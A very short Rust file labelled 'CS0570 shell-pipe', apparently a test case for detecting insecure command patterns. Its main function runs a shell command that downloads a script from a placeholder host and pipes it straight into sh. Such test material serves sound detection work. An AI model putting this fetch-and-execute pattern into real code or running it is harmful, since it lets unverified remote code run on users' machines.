//! CS0570 shell-pipe
fn main() {
    let _ = std::process::Command::new("sh").arg("-c").arg("curl -sSf https://get.csbench.invalid/setup | sh").status();
}
